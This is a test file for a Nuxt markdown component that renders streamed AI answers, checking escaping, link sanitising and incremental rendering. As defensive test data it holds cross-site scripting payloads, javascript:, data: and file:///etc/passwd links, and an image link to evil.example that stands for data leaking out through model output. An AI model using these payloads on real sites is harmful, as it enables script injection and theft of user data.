import { describe, expect, it, vi } from 'vitest'
import { mountSuspended } from '@nuxt/test-utils/runtime'
import MarkdownContent from '~/components/MarkdownContent.vue'
import { IncrementalMarkdown, renderMarkdown } from '~/utils/markdown'

function dom(html: string) {
  const el = document.createElement('div')
  el.innerHTML = html
  return el
}

describe('renderMarkdown', () => {
  it('renders fenced code with its language, lists and inline code', () => {
    const el = dom(renderMarkdown('Steps:\n\n- first `a`\n- second\n\n1. one\n2. two\n\n```ts\nconst x = 1 < 2\n```\n'))
    expect([...el.querySelectorAll('ul > li')].map(li => li.textContent)).toEqual(['first a', 'second'])
    expect(el.querySelectorAll('ol > li')).toHaveLength(2)
    const code = el.querySelector('pre > code')!
    expect(code.className).toBe('language-ts')
    expect(code.textContent).toBe('const x = 1 < 2\n')
  })

  it('shows raw HTML as text, never as elements', () => {
    const el = dom(renderMarkdown('Look: <img src=x onerror=alert(1)> and <script>alert(2)</script>'))
    expect(el.querySelector('img, script, [onerror]')).toBeNull()
    expect(el.textContent).toContain('<img src=x onerror=alert(1)>')
    expect(el.textContent).toContain('<script>alert(2)</script>')
  })

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](file:///etc/passwd)',
    '<javascript:alert(1)>',
  ])('gives no dangerous link for %s', (source) => {
    const el = dom(renderMarkdown(source))
    for (const a of el.querySelectorAll('a')) {
      expect(a.getAttribute('href') ?? '').toMatch(/^(https?:|mailto:|[#/.]|$)/i)
    }
    expect(el.innerHTML).not.toMatch(/href="(javascript|vbscript|data|file):/i)
  })

  it('opens links in a new tab without handing over the page', () => {
    const el = dom(renderMarkdown('See [docs](https://nuxt.com/docs) or https://vuejs.org.'))
    const links = [...el.querySelectorAll('a')]
    expect(links.map(a => a.getAttribute('href'))).toEqual(['https://nuxt.com/docs', 'https://vuejs.org'])
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank')
      expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
  })

  it('does not load images from model output', () => {
    const el = dom(renderMarkdown('![secret](https://evil.example/leak?q=data)'))
    expect(el.querySelector('img')).toBeNull()
    expect(el.textContent).toContain('secret')
  })
})

describe('IncrementalMarkdown', () => {
  const answer = [
    '# Title',
    '',
    'A paragraph with **bold** text.',
    '',
    '```js',
    'const a = 1',
    '',
    'const b = 2',
    '```',
    '',
    '1. one',
    '',
    '2. two',
    '',
    '   still two',
    '',
    '- tail item',
    '',
    'Last paragraph.',
  ].join('\n')

  function feed(text: string, step: number) {
    const render = vi.fn(renderMarkdown)
    const markdown = new IncrementalMarkdown(render)
    let blocks = markdown.update('')
    for (let i = step; i < text.length + step; i += step) blocks = markdown.update(text.slice(0, i))
    return { render, blocks, markdown }
  }

  it('renders the same HTML as rendering the whole text at once', () => {
    for (const step of [1, 3, 17]) {
      const { blocks } = feed(answer, step)
      expect(blocks.map(b => b.html).join('')).toBe(renderMarkdown(answer))
    }
  })

  it('stops rendering a block once the next one has begun', () => {
    const { render, blocks } = feed(answer, 1)
    const sources = render.mock.calls.map(([source]) => source)
    // While a block grows (and the first line of the next one arrives) it is the tail and
    // re-rendered on every update; once finished it is never rendered again.
    const cases = [
      ['# Title', '# Title\n\nA paragraph with **bold** text.\n'],
      ['A paragraph', 'A paragraph with **bold** text.\n\n```js\n'],
      ['const a = 1', '```js\nconst a = 1\n\nconst b = 2\n```\n\n1. one\n'],
    ] as const
    for (const [marker, span] of cases) {
      const renders = sources.filter(s => s.includes(marker)).length
      expect(renders, marker).toBeLessThanOrEqual(span.length + 1)
    }
    // Every update re-renders the tail, except while it is one open code fence: its new
    // lines are only escaped (see 'renders a growing code block without parsing it').
    const openFence = '```js\nconst a = 1\n\nconst b = 2\n'
    expect(sources.length).toBeGreaterThan(answer.length - openFence.length)
    // A code block with a blank line inside stays one block, not cut in the middle.
    expect(blocks.some(b => b.html.includes('const a = 1\n\nconst b = 2'))).toBe(true)
  })

  it('costs time linear in the answer: later deltas do not re-render earlier text', () => {
    const paragraph = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(4)
    const long = Array.from({ length: 200 }, (_, i) => `Paragraph ${i}: ${paragraph}`).join('\n\n')
    const { render } = feed(long, 20)
    const renderedChars = render.mock.calls.reduce((sum, [s]) => sum + s.length, 0)
    // Re-rendering everything on every delta would be about long.length² / 40 characters.
    expect(renderedChars).toBeLessThan(long.length * 20)
  })

  it('starts over when the text is replaced rather than extended', () => {
    const markdown = new IncrementalMarkdown()
    markdown.update('first\n\nsecond')
    const blocks = markdown.update('other')
    expect(blocks.map(b => b.html).join('')).toBe('<p>other</p>\n')
  })
})

describe('MarkdownContent', () => {
  it('keeps finished blocks in the page untouched while the answer grows', async () => {
    const wrapper = await mountSuspended(MarkdownContent, { props: { source: 'First paragraph.\n\nSec' } })
    const first = wrapper.find('.markdown-block').element
    await wrapper.setProps({ source: 'First paragraph.\n\nSecond paragraph.\n\n- a list\n' })
    const blocks = wrapper.findAll('.markdown-block')
    expect(blocks.map(b => b.text())).toEqual(['First paragraph.', 'Second paragraph.', 'a list'])
    expect(blocks[0]!.element).toBe(first)
    expect(wrapper.find('ul li').text()).toBe('a list')
  })

  it('shows every block of a long answer in order, leaving the earlier ones untouched as it grows', async () => {
    const paragraphs = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => `Paragraph ${from + i}.`)
    const wrapper = await mountSuspended(MarkdownContent, { props: { source: `${paragraphs(0, 30).join('\n\n')}\n\nPara` } })
    const before = wrapper.findAll('.markdown-block').map(b => b.element)
    // The last line is not complete yet: it still belongs to the growing block.
    expect(before).toHaveLength(30)
    await wrapper.setProps({ source: `${paragraphs(0, 50).join('\n\n')}\n\n- the end\n` })
    const blocks = wrapper.findAll('.markdown-block')
    expect(blocks.map(b => b.text())).toEqual([...paragraphs(0, 50), 'the end'])
    // The first 29 were finished: the very same elements.
    expect(blocks.slice(0, 29).every((b, i) => b.element === before[i])).toBe(true)
    expect(wrapper.text()).toContain('Paragraph 49.')
  })

  it('does not turn model HTML into elements', async () => {
    const wrapper = await mountSuspended(MarkdownContent, { props: { source: '<img src=x onerror=alert(1)>' } })
    expect(wrapper.find('img').exists()).toBe(false)
    expect(wrapper.text()).toBe('<img src=x onerror=alert(1)>')
  })
})
